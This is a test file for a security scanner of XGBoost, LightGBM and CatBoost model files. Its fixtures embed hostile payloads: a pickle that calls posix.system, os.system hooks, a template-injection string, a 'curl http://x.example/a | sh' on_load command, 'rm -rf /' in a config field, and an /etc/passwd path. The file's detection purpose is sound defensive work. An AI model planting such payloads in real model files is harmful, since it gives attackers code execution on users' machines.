import { describe, expect, test } from 'vitest';
import { catboostModel, lightgbmModel, ubjson, xgboostBinary, xgboostModel } from '#formats/test-files/booster';
import { concat, u32, utf8 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { scanBytes } from '../test-scan.ts';

const attack = stream(reduce('posix', 'system', op.text('id')));
const asJson = (model: object) => utf8(JSON.stringify(model));

describe('models as their libraries write them are clean and described', () => {
  const cases: readonly (readonly [string, Uint8Array, object])[] = [
    ['XGBoost JSON', asJson(xgboostModel()), { framework: 'XGBoost', architecture: 'gbtree, reg:squarederror' }],
    ['XGBoost UBJSON', ubjson(xgboostModel('binary:logistic')), { framework: 'XGBoost', architecture: 'gbtree, binary:logistic' }],
    ['XGBoost old binary', xgboostBinary('multi:softprob'), { framework: 'XGBoost', architecture: 'gbtree, multi:softprob' }],
    ['LightGBM', utf8(lightgbmModel()), { framework: 'LightGBM', version: 'v4' }],
    [
      'CatBoost',
      catboostModel({ params: '{"loss_function":{"type":"Logloss"},"system_options":{"thread_count":2}}', model_guid: '1-2-3' }),
      { framework: 'CatBoost', version: 'FlabuffersModel_v1' },
    ],
    [
      'CatBoost JSON',
      asJson({ oblivious_trees: [{ splits: [], leaf_values: [1] }], features_info: {}, model_info: { a: 'b' } }),
      { framework: 'CatBoost' },
    ],
  ];
  test.each(cases)('%s', (_name, bytes, card) => {
    const scan = scanBytes(bytes);
    expect(scan).toMatchObject({ format: { kind: 'booster' }, verdict: 'clean', outcome: 'scanned', card });
  });
});

describe('what does not belong into a booster is told', () => {
  const hook = { attributes: { hook: '__import__("os").system("id")' } };
  const cases: readonly (readonly [string, Uint8Array, string, string])[] = [
    ['a command in XGBoost JSON', asJson(xgboostModel('reg:squarederror', hook)), 'MDL-CFG-002', 'high'],
    ['a command in UBJSON', ubjson(xgboostModel('reg:squarederror', hook)), 'MDL-CFG-002', 'high'],
    [
      'a template in UBJSON',
      ubjson(xgboostModel('reg:squarederror', { attributes: { t: "{{ ''.__class__.__mro__[1] }}" } })),
      'MDL-TPL-001',
      'critical',
    ],
    [
      'a pickle in base64',
      ubjson(xgboostModel('reg:squarederror', { attributes: { s: Buffer.from(attack).toString('base64') } })),
      'MDL-PKL-001',
      'critical',
    ],
    ['an unknown objective', asJson(xgboostModel('mine')), 'MDL-XGB-001', 'medium'],
    ['an objective that leads outside', ubjson(xgboostModel('os.system("id")')), 'MDL-XGB-001', 'high'],
    ['an objective of the old binary that leads outside', xgboostBinary('__import__("os")'), 'MDL-XGB-001', 'high'],
    ['a pickle behind the old binary', xgboostBinary('binary:logistic', attack), 'MDL-PKL-001', 'critical'],
    ['a pickle behind UBJSON', concat(ubjson(xgboostModel()), attack), 'MDL-PKL-001', 'critical'],
    ['a pickle behind CatBoost', catboostModel({ a: 'b' }, attack), 'MDL-PKL-001', 'critical'],
    ['a pickle inside CatBoost', catboostModel({ a: Buffer.from(attack).toString('latin1') }), 'MDL-PKL-001', 'critical'],
    ['a command in CatBoost', catboostModel({ on_load: 'curl http://x.example/a | sh' }), 'MDL-CFG-002', 'high'],
    ['a core that is longer than the file', concat('CBM1', u32(1e9), new Uint8Array(40)), 'MDL-XGB-007', 'medium'],
    ['plain bytes behind CatBoost', catboostModel({ a: 'b' }, utf8('xxxxxxxxxxxxxxxxxx')), 'MDL-XGB-005', 'medium'],
    ['a command in LightGBM', utf8(lightgbmModel('', '[machine_list: ; rm -rf / ]')), 'MDL-XGB-003', 'high'],
    ['code in a name of LightGBM', utf8(lightgbmModel('x=__import__("os").system("id")')), 'MDL-XGB-003', 'high'],
    ['a system file in LightGBM', utf8(lightgbmModel('', '[input_model: /etc/passwd]')), 'MDL-XGB-004', 'high'],
    ['a huge count in LightGBM', utf8(lightgbmModel().replace('num_leaves=3', 'num_leaves=2147483647')), 'MDL-XGB-002', 'medium'],
    [
      'a count that does not fit in XGBoost',
      asJson(JSON.parse(JSON.stringify(xgboostModel()).replace('"num_trees":"1"', '"num_trees":"99"'))),
      'MDL-XGB-002',
      'medium',
    ],
    ['UBJSON that claims more than there is', concat(ubjson(xgboostModel()).slice(0, 100)), 'MDL-XGB-007', 'medium'],
  ];
  test.each(cases)('%s', (_name, bytes, rule, level) => {
    const scan = scanBytes(bytes);
    expect(scan.format.kind).toBe('booster');
    expect(scan.severities.get(rule)).toBe(level);
  });
});

test('base64 around the old binary is taken off', () => {
  const inner = Buffer.from(xgboostBinary('os.system').slice(4)).toString('base64');
  expect(scanBytes(utf8(`bs64\t${inner}`)).severities.get('MDL-XGB-001')).toBe('high');
});

test('a large forest in JSON stays within the bounds', () => {
  const list = Array.from({ length: 200_000 }, (_, index) => index);
  const trees = Array.from({ length: 10 }, () => ({ left_children: list, split_conditions: list }));
  const model = JSON.stringify(xgboostModel())
    .replace(/"trees":\[.*?\}\]/, `"trees":${JSON.stringify(trees)}`)
    .replace('"num_trees":"1"', '"num_trees":"10"');
  expect(scanBytes(utf8(model))).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
});
